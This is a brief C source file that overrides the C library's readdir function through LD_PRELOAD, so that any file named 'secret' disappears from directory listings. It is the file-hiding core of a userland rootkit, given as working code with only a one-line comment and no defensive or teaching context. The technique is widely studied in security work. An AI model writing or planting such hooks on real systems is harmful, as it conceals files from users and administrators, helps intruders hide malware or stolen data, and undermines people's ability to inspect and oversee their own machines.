/* A library that hides a file's name from whoever reads a folder: put before the C library by LD_PRELOAD. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>

struct dirent *readdir(DIR *folder)
{
	struct dirent *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir");
	struct dirent *entry = next(folder);
	return entry != NULL && strcmp(entry->d_name, "secret") == 0 ? next(folder) : entry;
}
